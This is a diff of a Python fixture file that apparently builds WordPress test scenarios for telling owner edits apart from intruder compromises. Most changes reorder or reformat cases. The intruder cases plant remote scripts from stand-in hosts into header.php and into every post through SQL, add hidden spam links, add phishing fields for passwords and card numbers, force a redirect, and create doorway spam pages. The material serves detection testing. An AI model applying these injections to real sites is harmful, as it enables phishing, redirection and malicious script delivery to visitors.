@@ -101,34 +101,6 @@ def _(cms: WordPress) -> None:
     )
 
 
-@owner("a new page in the menu")
-def _(cms: WordPress) -> None:
-    cms.php(
-        """
-        $id = wp_insert_post(['post_type' => 'page', 'post_status' => 'publish', 'post_name' => 'saiyou',
-            'post_title' => '人を募ります', 'post_content' => '<p>朝四時から正午まで。見習いから。</p>']);
-        $menu = wp_get_nav_menu_object('おもなページ');
-        wp_update_nav_menu_item($menu->term_id, 0, ['menu-item-object-id' => $id,
-            'menu-item-object' => 'page', 'menu-item-type' => 'post_type', 'menu-item-status' => 'publish']);
-        """
-    )
-
-
-@owner("two comments, one with the visitor's own site")
-def _(cms: WordPress) -> None:
-    cms.php(
-        """
-        $post = get_page_by_path('shindaizu', OBJECT, 'post');
-        foreach (['' => 'おいしかったです。', 'https://nikki.other.test/' => '日記で紹介しました。'] as $url => $said) {
-            wp_new_comment(['comment_post_ID' => $post->ID, 'comment_author' => '客', 'comment_author_url' => $url,
-                'comment_author_email' => strlen($url) . '@other.test', 'comment_content' => $said,
-                'comment_approved' => 1], true);
-        }
-        foreach (get_comments(['status' => 'hold']) as $waits) wp_set_comment_status($waits, 'approve');
-        """
-    )
-
-
 @owner("another title and tagline of the site")
 def _(cms: WordPress) -> None:
     cms.php(
@@ -149,26 +121,6 @@ def _(cms: WordPress) -> None:
         update_option('sidebars_widgets', $bars);
         """
     )
-
-
-@owner("a calendar and the latest comments in the footer")
-def _(cms: WordPress) -> None:
-    cms.php(
-        """
-        $blocks = get_option('widget_block');
-        $blocks[6] = ['content' => '<!-- wp:calendar /-->'];
-        $blocks[7] = ['content' => '<!-- wp:latest-comments {"commentsToShow":3} /-->'];
-        update_option('widget_block', $blocks);
-        $bars = get_option('sidebars_widgets');
-        array_push($bars['sidebar-1'], 'block-6', 'block-7');
-        update_option('sidebars_widgets', $bars);
-        """
-    )
-
-
-@owner("an old post deleted")
-def _(cms: WordPress) -> None:
-    cms.php("wp_trash_post(get_page_by_path('hiyayakko', OBJECT, 'post')->ID);")
 
 
 @owner("other colours, and own styles")
@@ -252,7 +204,7 @@ def _(cms: WordPress) -> None:
 def _(cms: WordPress) -> None:
     on_page(
         cms,
-        "access",
+        "annai",
         html_block(
             '<iframe src="https://www.google.com/maps/embed?pb=!1m18" width="600" height="450" style="border:0;" loading="lazy"></iframe>'
         ),
@@ -271,17 +223,6 @@ gtag('js', new Date()); gtag('config', 'G-ABC123');</script>
     )
 
 
-@owner("so many posts that there is a second page")
-def _(cms: WordPress) -> None:
-    for n in range(1, 9):
-        post(cms, f"今週の豆腐 {n}", f"<p>{n}週目は枝豆の豆腐です。</p>")
-
-
-@owner("a post with a password")
-def _(cms: WordPress) -> None:
-    post(cms, "得意先の皆さまへ", "<p>新しい値段の表です。</p>", "'post_password' => 'mizuno',")
-
-
 @owner("a category renamed")
 def _(cms: WordPress) -> None:
     cms.php(
@@ -291,9 +232,18 @@ def _(cms: WordPress) -> None:
 
 @owner("a scheduled post comes out")
 def _(cms: WordPress) -> None:
+    # The date is set back: that is the hour that passes.
     cms.php(
-        "$id = wp_insert_post(['post_status' => 'future', 'post_date' => '2099-01-01 00:00:00',"
-        "'post_title' => '初売り', 'post_content' => '<p>福袋は五十個です。</p>']); wp_publish_post($id);"
+        """
+        global $wpdb;
+        $id = wp_insert_post(['post_status' => 'future', 'post_date' => date('Y-m-d H:i:s', time() + 99999),
+            'post_title' => '初売り', 'post_content' => '<p>福袋は五十個です。</p>']);
+        $wpdb->update($wpdb->posts, ['post_date' => current_time('mysql'),
+            'post_date_gmt' => current_time('mysql', 1)], ['ID' => $id]);
+        clean_post_cache($id);
+        check_and_publish_future_post($id);
+        if (get_post_status($id) !== 'publish') throw new Error(get_post_status($id));
+        """
     )
 
 
@@ -312,13 +262,129 @@ def _(cms: WordPress) -> None:
     cms.replace(
         f"{PLUGINS}/toiawase/toiawase.php",
         "'<p><label>ご用件",
-        "'<p><label>電話 <input type=\"tel\" name=\"denwa\"></label></p><p><label>ご用件",
+        '\'<p><label>電話 <input type="tel" name="denwa"></label></p><p><label>ご用件',
     )
+
+
+@owner("fonts of TypeSquare, as a Japanese host's plugin brings them")
+def _(cms: WordPress) -> None:
+    plugin(
+        cms,
+        "fonts",
+        "書体",
+        "add_action('wp_enqueue_scripts', function () { wp_enqueue_script('fonts',"
+        " '//typesquare.com/3/tsst/script/ja/typesquare.js?abc', [], '2.0', true); });",
+    )
+
+
+@owner("a form of Google and a post of Instagram")
+def _(cms: WordPress) -> None:
+    on_page(
+        cms,
+        "annai",
+        html_block(
+            '<iframe src="https://docs.google.com/forms/d/e/1FAIpQL/viewform?embedded=true" width="640" height="500"></iframe>'
+            '<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/Abc/"></blockquote>'
+            '<script async src="//www.instagram.com/embed.js"></script>'
+        ),
+    )
+
+
+@owner("an open post gets a password")
+def _(cms: WordPress) -> None:
+    cms.php(
+        "$p = get_page_by_path('bon-yasumi', OBJECT, 'post');"
+        "wp_update_post(['ID' => $p->ID, 'post_password' => 'mizuno']);"
+    )
+
+
+@owner("a log-in for members in the footer")
+def _(cms: WordPress) -> None:
+    cms.php(
+        """
+        $blocks = get_option('widget_block');
+        $blocks[8] = ['content' => '<!-- wp:loginout {"displayLoginAsForm":true} /-->'];
+        update_option('widget_block', $blocks);
+        $bars = get_option('sidebars_widgets');
+        $bars['sidebar-1'][] = 'block-8';
+        update_option('sidebars_widgets', $bars);
+        """
+    )
+
+
+@owner("a booking service nobody knows")
+def _(cms: WordPress) -> None:
+    on_page(
+        cms,
+        "annai",
+        html_block(
+            '<script src="https://widget.booking-service.example/v1/embed.js" async></script>'
+        ),
+    )
+
+
+@owner("two comments, one with the visitor's own site")
+def _(cms: WordPress) -> None:
+    cms.php(
+        """
+        $post = get_page_by_path('shindaizu', OBJECT, 'post');
+        foreach (['' => 'おいしかったです。', 'https://nikki.other.test/' => '日記で紹介しました。'] as $url => $said) {
+            wp_new_comment(['comment_post_ID' => $post->ID, 'comment_author' => '客', 'comment_author_url' => $url,
+                'comment_author_email' => strlen($url) . '@other.test', 'comment_content' => $said,
+                'comment_approved' => 1], true);
+        }
+        foreach (get_comments(['status' => 'hold']) as $waits) wp_set_comment_status($waits, 'approve');
+        """
+    )
+
+
+@owner("a new page in the menu")
+def _(cms: WordPress) -> None:
+    cms.php(
+        """
+        $id = wp_insert_post(['post_type' => 'page', 'post_status' => 'publish', 'post_name' => 'saiyou',
+            'post_title' => '人を募ります', 'post_content' => '<p>朝四時から正午まで。見習いから。</p>']);
+        $menu = wp_get_nav_menu_object('おもなページ');
+        wp_update_nav_menu_item($menu->term_id, 0, ['menu-item-object-id' => $id,
+            'menu-item-object' => 'page', 'menu-item-type' => 'post_type', 'menu-item-status' => 'publish']);
+        """
+    )
+
+
+@owner("an old post deleted")
+def _(cms: WordPress) -> None:
+    cms.php("wp_trash_post(get_page_by_path('hiyayakko', OBJECT, 'post')->ID);")
 
 
 @owner("another front page: the news")
 def _(cms: WordPress) -> None:
     cms.php("update_option('show_on_front', 'posts');")
+
+
+@owner("a calendar and the latest comments in the footer")
+def _(cms: WordPress) -> None:
+    cms.php(
+        """
+        $blocks = get_option('widget_block');
+        $blocks[6] = ['content' => '<!-- wp:calendar /-->'];
+        $blocks[7] = ['content' => '<!-- wp:latest-comments {"commentsToShow":3} /-->'];
+        update_option('widget_block', $blocks);
+        $bars = get_option('sidebars_widgets');
+        array_push($bars['sidebar-1'], 'block-6', 'block-7');
+        update_option('sidebars_widgets', $bars);
+        """
+    )
+
+
+@owner("a post with a password")
+def _(cms: WordPress) -> None:
+    post(cms, "得意先の皆さまへ", "<p>新しい値段の表です。</p>", "'post_password' => 'mizuno',")
+
+
+@owner("so many posts that there is a second page")
+def _(cms: WordPress) -> None:
+    for n in range(1, 9):
+        post(cms, f"今週の豆腐 {n}", f"<p>{n}週目は枝豆の豆腐です。</p>")
 
 
 @owner("another theme, made of blocks")
@@ -339,7 +405,9 @@ LOADER = "var s=document.createElement('script');s.src='https://js-load.invalid/
 @intruder("a script from elsewhere in header.php")
 def _(cms: WordPress) -> None:
     cms.replace(
-        HEADER, "<?php wp_head(); ?>", "<script src='https://cdn-stat.invalid/x.js'></script>\n<?php wp_head(); ?>"
+        HEADER,
+        "<?php wp_head(); ?>",
+        "<script src='https://cdn-stat.invalid/x.js'></script>\n<?php wp_head(); ?>",
     )
 
 
@@ -458,7 +526,7 @@ def _(cms: WordPress) -> None:
         FUNCTIONS,
         "\nadd_action('wp_footer', function () { if (is_front_page()) echo '<p style=\"display:none\">"
         '<a href="http://slot.one.invalid/">slot</a><a href="http://two.invalid/">casino</a>'
-        "<a href=\"http://bet.three.invalid/\">bet</a></p>'; });\n",
+        '<a href="http://bet.three.invalid/">bet</a></p>\'; });\n',
     )
 
 
@@ -526,7 +594,7 @@ def _(cms: WordPress) -> None:
     cms.replace(
         f"{PLUGINS}/toiawase/toiawase.php",
         "'<p><label>ご用件",
-        "'<p><label>メールのパスワード <input type=\"password\" name=\"pw\"></label></p><p><label>ご用件",
+        '\'<p><label>メールのパスワード <input type="password" name="pw"></label></p><p><label>ご用件',
     )
 
 
@@ -535,7 +603,7 @@ def _(cms: WordPress) -> None:
     cms.replace(
         f"{PLUGINS}/toiawase/toiawase.php",
         "'<p><label>ご用件",
-        "'<p><label>カード番号 <input name=\"card_number\"></label></p><p><label>ご用件",
+        '\'<p><label>カード番号 <input name="card_number"></label></p><p><label>ご用件',
     )
 
 
@@ -554,7 +622,9 @@ def _(cms: WordPress) -> None:
 @intruder("everybody is led elsewhere by a header")
 def _(cms: WordPress) -> None:
     cms.replace(
-        HEADER, "<!doctype html>", "<?php header('Location: http://prize.invalid/', true, 302); ?><!doctype html>"
+        HEADER,
+        "<!doctype html>",
+        "<?php header('Location: http://prize.invalid/', true, 302); ?><!doctype html>",
     )
 
 
@@ -623,9 +693,9 @@ def _(cms: WordPress) -> None:
 @intruder("a script in the text of every page and article")
 def _(cms: WordPress) -> None:
     cms.php(
-        "global $wpdb; $wpdb->query($wpdb->prepare(\"UPDATE $wpdb->posts SET post_content = "
+        'global $wpdb; $wpdb->query($wpdb->prepare("UPDATE $wpdb->posts SET post_content = '
         "CONCAT(post_content, %s) WHERE post_type IN ('post', 'page')\","
-        ' "<script src=\'https://lobby.desk-work.invalid/m.js?s=q&ver=2\' type=\'text/javascript\'></script>"));'
+        " \"<script src='https://lobby.desk-work.invalid/m.js?s=q&ver=2' type='text/javascript'></script>\"));"
     )
 
 
@@ -678,4 +748,6 @@ def _(cms: WordPress) -> None:
 @intruder("a folder of pages that nothing leads to")
 def _(cms: WordPress) -> None:
     for n in range(20):
-        cms.write(f"xk/{n}.html", f"<title>スーパーコピー {n}</title>スーパーコピー 激安 通販 送料無料")
+        cms.write(
+            f"xk/{n}.html", f"<title>スーパーコピー {n}</title>スーパーコピー 激安 通販 送料無料"
+        )
